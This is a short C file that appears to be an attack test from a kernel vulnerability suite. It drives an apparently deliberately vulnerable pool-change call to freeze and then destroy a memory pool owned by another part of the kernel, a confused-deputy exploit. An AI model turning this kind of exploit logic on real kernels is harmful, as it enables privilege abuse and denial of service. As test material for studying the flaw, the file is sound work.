/* The kernel as a confused deputy: it is led to end a pool that belongs to another part of it. */
#include "attack.h"

static long end(uint64_t pool, enum bw_pool_change how, const char *what)
{
	long status = bw_vuln_pool_change(pool, how);

	attack_say("%s the claimed pool at 0x%lx: %s", what, pool, status < 0 ? "refused" : "done");
	return status;
}

int main(void)
{
	struct bw_sealed sealed;
	long status;

	attack_sealed(&sealed);
	end(sealed.claimed.pool, BW_POOL_FREEZE, "freezing");
	status = end(sealed.claimed.pool, BW_POOL_DESTROY, "destroying");
	attack_check("vuln_pool_change", status);
	return attack_finish();
}
